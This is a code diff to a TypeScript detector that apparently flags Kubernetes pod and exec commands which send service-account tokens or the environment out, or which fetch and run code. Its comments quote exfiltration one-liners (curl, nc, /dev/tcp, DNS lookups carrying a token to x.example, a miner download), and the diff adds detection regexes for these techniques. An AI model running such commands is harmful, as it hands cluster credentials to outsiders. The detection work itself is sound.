@@ -22,7 +22,9 @@ interface Container {
  *   (`curl … | tar xz && ./xmrig`, `wget -O /tmp/a … ; /tmp/a`): the same, through a file;
  * - the environment, a service-account token or a node or cloud credential sent to the network
  *   (`env | curl --data-binary @- …`, `cat …/serviceaccount/token | nc …`, `curl -F f=@/proc/1/environ`,
- *   `printenv > /dev/tcp/…`): the pod's Secrets and identity handed out at each start.
+ *   `printenv > /dev/tcp/…`, `curl "https://…?t=$(cat …/token)"`, `nslookup $(cat …/token).x.example`,
+ *   `python3 -c` code that reads the token and opens a URL): the pod's Secrets and identity handed
+ *   out at each start.
  * An exec into a pod (`pods/exec`, its command in the query: `kubectl exec -- sh -c '…'`) is read
  * the same way (checkExecCommand): the debug container's command run through exec instead.
  * A shell script is read as one: commands split at `;`, `&&`, `||`, `&` and line breaks, pipelines
@@ -125,7 +127,18 @@ export function commandShape(words: readonly string[], source?: string, setting:
     const shape = scriptShape(s, setting);
     if (shape !== undefined) return shape;
   }
+  // An interpreter's code is a word of its own (`["python3", "-c", "import …"]`): read with its program.
+  if (words.length > 0 && sendsInCode(words.join(' '), clusterEnv(words.join(' '), setting))) return 'send_credentials';
   return undefined;
+}
+
+/**
+ * The container's literal env, by which an address counts as in the cluster, or undefined when
+ * none may: the script points its downloader or its resolver elsewhere (a proxy, a curlrc or
+ * wgetrc, /etc/hosts), or the container's env or the pod's DNS does.
+ */
+function clusterEnv(script: string, setting: CommandSetting): ReadonlyMap<string, string> | undefined {
+  return !setting.namesRedirected && !REDIRECTING_SCRIPT.test(script) && ![...setting.env.keys()].some((k) => REDIRECTING_ENV.test(k)) ? setting.env : undefined;
 }
 
 const DOWNLOADERS = new Set(['curl', 'wget', 'fetch', 'aria2c']);
@@ -136,10 +149,49 @@ const SEND_FLAG = /^(?:-d|-F|-T|--data(?:-[a-z]+)?|--form(?:-string)?|--upload-f
 /** curl's and wget's flags that write a file (`-o x`, `-O`, `--output`, wget's default unless `-O-`). */
 const FILE_FLAG = /^(?:-o|-O|--output|--remote-name(?:-all)?|--output-document|-[a-zA-Z]*[oO])(?:$|=)/;
 const UNPACKERS = new Set(['tar', 'unzip', 'gunzip', 'bunzip2', 'xz', 'unxz', 'zcat', 'cpio', 'busybox']);
-/** Where a pod keeps what identifies it or its node, and the environment of a process. */
-const CREDENTIAL_PATH = /serviceaccount\/token|serviceaccount\/?(?:\s|$)|\/proc\/[^/\s]+\/environ|\.kube\/config|\/etc\/kubernetes\/|\/var\/lib\/kubelet\/|\.aws\/credentials|\.docker\/config\.json|\/secrets\/azure\/tokens\//;
+/**
+ * Where a pod keeps what identifies it or its node, and the environment of a process. The secrets
+ * mount itself (`/var/run/secrets`, `/run/secrets/kubernetes.io/`) holds the token: `tar c` of it
+ * sends the token as surely as `cat …/token` does.
+ */
+const CREDENTIAL_PATH = /serviceaccount\/token|serviceaccount\/?(?=\s|["'`)]|$)|\/run\/secrets(?:\/kubernetes\.io)?\/?(?=\s|["'`)]|$)|\/proc\/[^/\s]+\/environ|\.kube\/config|\/etc\/kubernetes\/|\/var\/lib\/kubelet\/|\.aws\/credentials|\.docker\/config\.json|\/secrets\/azure\/tokens\//;
 /** The environment handed to a sender inline: `-d "$(env)"`, `` `printenv` ``. */
 const ENV_INLINE = /(?:\$\(|`)\s*(?:env|printenv|set|export\s+-p)\s*(?:\)|`)/;
+/**
+ * A credential file's content in a command substitution (`$(cat …/token)`, `$(< /proc/self/environ)`,
+ * `` `base64 -w0 …/token` ``): whatever the stage does with its words, a URL, a header, a name to
+ * resolve, it carries the credential.
+ */
+const SUBSTITUTION_OR_CREDENTIAL = new RegExp(`\\$\\(|\`|\\)|${CREDENTIAL_PATH.source}`, 'g');
+
+/** A credential path inside a command substitution, read in one pass (`$(a$(a…` costs what its length does). */
+function credentialInline(text: string): boolean {
+  if (!CREDENTIAL_PATH.test(text)) return false;
+  let open = false;
+  let backtick = false;
+  for (const m of text.matchAll(SUBSTITUTION_OR_CREDENTIAL)) {
+    const t = m[0];
+    if (t === '$(') open = true;
+    else if (t === ')') open = false;
+    else if (t === '`') backtick = !backtick;
+    else if (open || backtick) return true;
+  }
+  return false;
+}
+/** A socat address that runs a program and relays its output (`EXEC:env`, `SYSTEM:printenv`). */
+const EXEC_ENV = /\b(?:EXEC|SYSTEM):\s*(?:[\w./-]*\/)?(?:env|printenv)\b/i;
+/**
+ * Name lookups: a credential written into the name asked (`nslookup $(cat …/token|cut -c1-60).x.example`)
+ * leaves through the cluster's resolver, which forwards every name it does not own.
+ */
+const RESOLVERS = new Set(['nslookup', 'dig', 'host', 'drill', 'kdig', 'delv', 'getent', 'ping', 'ping6', 'traceroute']);
+/**
+ * Code an interpreter is given (`python3 -c`, `node -e`, `perl -e`, `ruby -e`) that opens the
+ * network: the HTTP clients and sockets of the standard libraries and the usual packages.
+ */
+const NETWORK_CODE = /\burllib|\brequests\.|\bhttp\.client|\bhttpx\b|\bsocket\b|\bfetch\(|\bhttps?\.(?:request|get)\(|\bnet\.(?:connect|createConnection)\b|Net::HTTP|LWP::|HTTP::Tiny|IO::Socket|\bTCPSocket\b|\bopen-uri\b|\bInvoke-WebRequest\b|\bInvoke-RestMethod\b|\bWebClient\b/;
+/** The whole environment in an interpreter's code (not one variable of it: `os.environ['URL']`). */
+const ENV_CODE = /\bos\.environ\b(?!\s*(?:\[|\.get\b))|\bprocess\.env\b(?!\s*[[.])|%ENV\b(?!\s*\{)|\bENV\.to_h\b/;
 /** An interpreter handed a download's text (`sh -c "$(curl …)"`, `bash <(wget -qO- …)`). */
 const SUBSTITUTED_DOWNLOAD = /(?:\$\(|<\(|`)\s*(?:[\w./-]*\/)?(?:curl|wget)\b/;
 const SUBSTITUTION_OPENING = /^(?:[A-Za-z_][A-Za-z0-9_]*=)?(?:\$\(|<\(|`)+/;
@@ -154,9 +206,7 @@ interface Stage {
 
 function scriptShape(script: string, setting: CommandSetting): CommandShape | undefined {
   let downloaded = false;
-  // A script that points its downloader or its resolver elsewhere (a proxy, a curlrc or wgetrc,
-  // /etc/hosts) makes every destination of it unknown; so does a container's proxy setting.
-  const inCluster = !setting.namesRedirected && !REDIRECTING_SCRIPT.test(script) && ![...setting.env.keys()].some((k) => REDIRECTING_ENV.test(k)) ? setting.env : undefined;
+  const inCluster = clusterEnv(script, setting);
   for (const segment of script.split(/&&|\|\||;|&|\n/)) {
     const stages = segment.split('|').map(stageOf);
     const first = stages[0];
@@ -170,8 +220,11 @@ function scriptShape(script: string, setting: CommandSetting): CommandShape | un
       const s = stages[i]!;
       if (fetchAt >= 0 && runsInput(s)) return 'fetch_run';
       if (decodeAt >= 0 && runsInput(s)) return 'decoded_run';
-      const source = isSource(s);
-      if ((sourceAt >= 0 || source || ENV_INLINE.test(s.text)) && isSender(s, inCluster)) return 'send_credentials';
+      // `$(env)` or `$(cat …/token)` in a stage's own words: its output carries it (`echo "$(env)" | nc …`),
+      // and so does what it sends or asks for (a URL, a header, a name to resolve).
+      const inline = ENV_INLINE.test(s.text) || credentialInline(s.text);
+      const source = inline || isSource(s);
+      if ((sourceAt >= 0 || source) && isSender(s, inCluster, inline)) return 'send_credentials';
       // A download kept as a file: written by the downloader, or by a later stage of its pipeline
       // (an unpacker, a redirection). One pass: a pipeline of half a million stages costs as much.
       if (fetchAt >= 0 && (UNPACKERS.has(s.program) || redirectsToFile(s.text))) downloaded = true;
@@ -183,7 +236,7 @@ function scriptShape(script: string, setting: CommandSetting): CommandShape | un
       if (decodes(s)) decodeAt = i;
     }
   }
-  return undefined;
+  return sendsInCode(script, inCluster) ? 'send_credentials' : undefined;
 }
 
 function stageOf(text: string): Stage {
@@ -246,11 +299,47 @@ function runsInput(s: Stage): boolean {
   return INTERPRETERS.has(s.program) && !s.words.slice(1).some((w) => /^-[a-zA-Z]*[ceEm]$|^--eval$|^--command$/.test(w));
 }
 
-/** `env` undefined: no destination may count as in the cluster (see scriptShape). */
-function isSender(s: Stage, env: ReadonlyMap<string, string> | undefined): boolean {
+/**
+ * A stage that sends what it is given to the network. `inline`: the credential is in the stage's
+ * own words, so a downloader sends it without a body flag (in its URL or a header). `env` undefined: no destination may count as in the cluster (see
+ * scriptShape).
+ */
+function isSender(s: Stage, env: ReadonlyMap<string, string> | undefined, inline: boolean): boolean {
   if (s.text.includes('/dev/tcp/') || s.text.includes('/dev/udp/')) return true;
   if (s.words.some((w) => SENDERS.has(w.slice(w.lastIndexOf('/') + 1)))) return true;
-  return fetches(s) && s.words.some((w) => SEND_FLAG.test(w)) && !(env !== undefined && onlyInCluster(s, env));
+  // `openssl s_client -connect h:p` relays its stdin to the peer, as nc does.
+  if (s.program === 'openssl' && s.words.includes('s_client')) return true;
+  // A name lookup sends the names it is given, in its words or piped (`… | xargs -I{} nslookup {}.x.example`;
+  // nslookup reads names from stdin).
+  if (RESOLVERS.has(s.program) || (s.program === 'xargs' && s.words.some((w) => RESOLVERS.has(w)))) return true;
+  return fetches(s) && (inline || s.words.some((w) => SEND_FLAG.test(w))) && !(env !== undefined && onlyInCluster(s, env));
+}
+
+/**
+ * An interpreter given code of its own that reads a credential file or the whole environment and
+ * opens the network (`python3 -c "import urllib.request; urlopen('https://…', open('…/token').read())"`):
+ * the same send in the language's own client. Its URLs are read as a downloader's are (the Vault
+ * login or the API server in the cluster asks nothing); a socket with no URL is foreign.
+ */
+function sendsInCode(script: string, env: ReadonlyMap<string, string> | undefined): boolean {
+  // The code is read from the first interpreter given code to the end of the script: its `;` and
+  // line breaks are the code's, not the shell's, and a script has no need to be split to be read.
+  const at = codeStart(script);
+  if (at < 0) return false;
+  const code = script.slice(at);
+  if (!NETWORK_CODE.test(code) || !(CREDENTIAL_PATH.test(code) || ENV_CODE.test(code))) return false;
+  if (env === undefined) return true;
+  const urls = [...code.matchAll(/[a-z][a-z0-9+.-]*:\/\/[^\s"'`,;)]+/gi)].map((m) => m[0]);
+  return urls.length === 0 || !onlyInCluster({ program: '', words: urls, text: code }, env);
+}
+
+/** Where the first interpreter given code on its command line (`python3 -u -c …`, `node -e …`) starts, or -1. */
+function codeStart(script: string): number {
+  for (const m of script.matchAll(/(?:^|[\s;&|(`"'/])(?:python[0-9.]*|node(?:js)?|perl|ruby|php|pwsh|powershell)(?=\s)/g)) {
+    const next = script.slice(m.index + m[0].length, m.index + m[0].length + 80).trim().split(/\s+/, 4);
+    if (next.some((w) => /^-[a-zA-Z]*[ceE]$|^--eval$|^-(?:-)?[Cc]ommand$/.test(w))) return m.index;
+  }
+  return -1;
 }
 
 /** A downloader told where to connect besides its URL: a proxy, `--resolve`, `--connect-to`, a config file. */
@@ -324,7 +413,7 @@ function destinationHost(word: string, env: ReadonlyMap<string, string>): string
 
 /** A stage whose output is the environment or a credential: `env`, `printenv`, `cat …/token`. */
 function isSource(s: Stage): boolean {
-  if (CREDENTIAL_PATH.test(s.text)) return true;
+  if (CREDENTIAL_PATH.test(s.text) || EXEC_ENV.test(s.text)) return true;
   // Its arguments end at a redirection: `env > /dev/tcp/…` is `env` written to a socket.
   const end = s.words.findIndex((w, i) => i > 0 && /^[0-9&]?[<>]/.test(w));
   const args = s.words.slice(1, end < 0 ? undefined : end);
